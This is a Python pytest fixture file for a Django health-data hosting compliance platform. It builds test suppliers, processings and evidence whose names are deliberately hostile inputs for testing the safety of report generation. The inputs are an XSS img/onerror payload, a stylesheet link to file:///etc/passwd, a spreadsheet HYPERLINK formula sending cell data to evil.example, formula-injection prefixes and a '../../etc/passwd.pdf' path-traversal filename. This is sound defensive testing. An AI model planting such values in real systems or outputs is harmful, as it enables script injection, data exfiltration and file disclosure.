"""An organisation worth reporting on: two processings (controller and processor), three suppliers
whose names are hostile markup or formulas, certificates, evidence, and evaluated answers."""

from dataclasses import dataclass
from datetime import date

import pytest

from compliance import evaluation
from compliance.models import Evidence, Processing, Supplier
from hds_platform.models import Organisation
from tests.compliance import builders

HOSTILE_IMG = "<img src=x onerror=alert(1)>"
HOSTILE_LINK = '<link rel=stylesheet href="file:///etc/passwd">'
FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'
PROCESSOR_NAME = "+Hébergement des dossiers clients"
EVIDENCE_TITLE = "@SUM(1+1) contrat"
TRAVERSAL_NAME = "../../etc/passwd.pdf"


@dataclass
class Reported:
    organisation: Organisation
    sovereign: Supplier  # certified for 1-4
    uncertified: Supplier  # HOSTILE_IMG, performs 5 without certificate
    backup: Supplier  # HOSTILE_LINK, certified for 6
    patient: Processing  # controller, non compliant (uncertified supplier)
    hosting: Processing  # processor (PROCESSOR_NAME) serving FORMULA_NAME, backed up by HOSTILE_LINK
    contract: Evidence
    dpa: Evidence


@pytest.fixture
def reported(tenant, media) -> Reported:
    organisation = tenant.organisation
    Organisation.objects.filter(pk=organisation.pk).update(siren="732829320")
    organisation.refresh_from_db()
    with tenant.context():
        sovereign = builders.supplier("Nuage Souverain", siren="552100554")
        certificate = builders.certificate(sovereign, activities=(1, 2, 3, 4), certificate_number="HDS-NS-2024-7",
                                           expires_on=date(2027, 12, 1))
        uncertified = builders.supplier(HOSTILE_IMG)
        backup = builders.supplier(HOSTILE_LINK)
        builders.certificate(backup, activities=(6,), certificate_number="HDS-BK-6", expires_on=date(2028, 3, 31))
        patient = builders.processing("Dossier patient")
        builders.link(patient, sovereign, activities=(1, 2, 3, 4))
        builders.link(patient, uncertified, activities=(5,))
        hosting = builders.processing(PROCESSOR_NAME, role="processor", controllers_served=[FORMULA_NAME])
        builders.link(hosting, sovereign, activities=(1, 2, 3, 4))
        builders.link(hosting, backup, activities=(6,), is_backup=True)
        contract = builders.evidence("hosting_contract", supplier=sovereign, title=EVIDENCE_TITLE,
                                     issued_on=date(2025, 1, 6), valid_until=date(2028, 1, 5))
        dpa = builders.evidence("dpa", supplier=sovereign, file=builders.pdf_upload("dpa.pdf", "DPA"))
        Evidence.objects.filter(pk=dpa.pk).update(original_name=TRAVERSAL_NAME)
        dpa.refresh_from_db()
        builders.evidence("hds_certificate", supplier=sovereign, certificate=certificate,
                          file=builders.pdf_upload("certificat.pdf", "Certificat"))
        evaluation.evaluate_all(force=True)
    return Reported(organisation=organisation, sovereign=sovereign, uncertified=uncertified, backup=backup,
                    patient=patient, hosting=hosting, contract=contract, dpa=dpa)


def report_bytes(report) -> bytes:
    from django.core.files.storage import default_storage

    with default_storage.open(report.file.name, "rb") as handle:
        return handle.read()


@pytest.fixture
def generate(tenant):
    """Generate a report through the service, as the owner; returns (report, file bytes)."""
    from compliance.reports import services
    from hds_platform.audit import Actor

    def make(kind, fmt, *, language="fr", **scope):
        with tenant.context():
            report = services.report_request(actor=Actor.for_user(tenant.owner), kind=kind, format=fmt,
                                             language=language, **scope)
        assert (report.status, report.error) == ("done", "")
        return report, report_bytes(report)

    return make
